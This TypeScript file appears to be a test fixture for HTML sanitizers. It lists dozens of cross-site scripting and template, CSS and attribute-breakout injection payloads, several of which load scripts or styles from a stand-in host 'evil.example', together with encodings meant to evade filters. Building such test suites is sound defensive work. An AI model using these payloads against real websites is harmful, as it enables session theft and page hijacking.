import { combine, type HostileText } from './hostile-text.ts';

/** Property that an injected script sets on the global object when it runs. Nothing else has this name. */
export const SCRIPT_MARK = '__hostileScriptRan';

const run = `window.${SCRIPT_MARK}=1`;

/** Texts that run a script or change the page if they are inserted into HTML, SVG, CSS, a script or a template. */
const classes: readonly HostileText[] = [
  ['a script element', `<script>${run}</script>`],
  ['a script element with an address', '<script src=//evil.example/x.js></script>'],
  ['an unclosed script element', `<script>${run}//`],
  ['an image that fails', `<img src=x onerror=${run}>`],
  ['an image with slashes for spaces', `<img/src=x/onerror=${run}>`],
  ['a source set', `<img srcset=x onerror=${run}>`],
  ['SVG that loads', `<svg onload=${run}>`],
  ['SVG that animates', `<svg><animate onbegin=${run} attributeName=x dur=1s>`],
  ['SVG with a script', `<svg><script>${run}</script></svg>`],
  ['SVG with a link', `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`],
  ['SVG with a foreign object', `<svg><foreignObject><iframe onload=${run}></foreignObject></svg>`],
  ['MathML with a link', `<math href="javascript:${run}">x</math>`],
  ['a frame', `<iframe src="javascript:${run}"></iframe>`],
  [
    'a frame with a document',
    `<iframe srcdoc="<script>parent.${SCRIPT_MARK}=1</script>"></iframe>`,
  ],
  ['an object', `<object data="javascript:${run}"></object>`],
  ['an embedded file', `<embed src="data:image/svg+xml,<svg onload='${run}'/>">`],
  ['a link', `<a href="javascript:${run}" autofocus>x</a>`],
  ['a form', `<form action="javascript:${run}"><button autofocus>x</button></form>`],
  ['a focused field', `<input autofocus onfocus=${run}>`],
  ['an opened details element', `<details open ontoggle=${run}>`],
  ['a video', `<video><source onerror=${run}></video>`],
  ['a running text', `<marquee onstart=${run}>x</marquee>`],
  ['an animation', `<style>@keyframes x{}</style><b style="animation:x" onanimationstart=${run}>`],
  ['a base address', '<base href="//evil.example/">'],
  ['a redirect', `<meta http-equiv="refresh" content="0;url=javascript:${run}">`],
  ['a style sheet', '<link rel=stylesheet href=//evil.example/x.css>'],
  ['a style element', '<style>body{background:url(//evil.example/x)}</style>'],
  ['a custom element', `<x-y onclick=${run} tabindex=1 onfocus=${run} autofocus>`],
  ['the end of a double-quoted attribute', `" autofocus onfocus="${run}" x="`],
  ['the end of a single-quoted attribute', `' autofocus onfocus='${run}' x='`],
  ['the end of an unquoted attribute', `x autofocus onfocus=${run}`],
  ['the end of a tag', `"><script>${run}</script>`],
  ['the end of a title', `</title><script>${run}</script>`],
  ['the end of a text area', `</textarea><script>${run}</script>`],
  ['the end of a style', `</style><script>${run}</script>`],
  ['the end of a script', `</script><script>${run}</script>`],
  ['the end of a template', `</template><script>${run}</script>`],
  ['the end of a comment', `--><script>${run}</script>`],
  ['a comment in a script', '<!--<script>'],
  ['the end of CDATA', `]]><script>${run}</script>`],
  ['the end of a script’s double-quoted text', `";${run}//`],
  ['the end of a script’s single-quoted text', `';${run}//`],
  ['the end of a template literal', `\`;${run}//`],
  ['a part of a template literal', `\${${run}}`],
  ['a template in double braces', `{{constructor.constructor('${run}')()}}`],
  ['a template of a server', `<%= ${run} %>`],
  ['a placeholder of a head', '{product.title}'],
  ['a pattern of a replacement', "$&$`$'$1"],
  ['an expression of CSS', `width:expression(${run})`],
  ['an address of CSS', `background:url("javascript:${run}")`],
  ['the end of a rule of CSS', '}body{display:none}'],
  ['an import of CSS', "@import '//evil.example/x.css';"],
  ['a tag that changes when it is cleaned', `<scr<script>ipt>${run}</scr</script>ipt>`],
  [
    'a tag that the parser moves',
    `<table><td><noscript><p title="</noscript><img src=x onerror=${run}>">`,
  ],
];

const entity = (format: (code: number) => string) => (text: string) =>
  text.replaceAll(/[<>"'&:]/g, (letter) => format(letter.codePointAt(0) ?? 0));

/** Encodings that a filter for '<' or 'script' may overlook. */
const disguises: readonly [title: string, write: (text: string) => string][] = [
  ['as it is', (text) => text],
  [
    'in other letters’ case',
    (text) => text.replaceAll(/[a-z](?=[a-z])/g, (each) => each.toUpperCase()),
  ],
  ['as decimal entities', entity((code) => `&#${code};`)],
  ['as hexadecimal entities without an end', entity((code) => `&#x${code.toString(16)}`)],
  ['as named entities', (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;')],
  ['percent-encoded', encodeURIComponent],
  ['percent-encoded twice', (text) => encodeURIComponent(encodeURIComponent(text))],
  ['as escapes of JavaScript', entity((code) => `\\u${code.toString(16).padStart(4, '0')}`)],
  ['as escapes of CSS', entity((code) => `\\${code.toString(16)} `)],
  ['in UTF-7', (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-')],
  ['in full-width letters', entity((code) => String.fromCodePoint(code + 0xfee0))],
  ['with zero bytes', (text) => text.replaceAll('<', '<\0')],
];

export const scriptInjections: readonly HostileText[] = combine(classes, disguises);
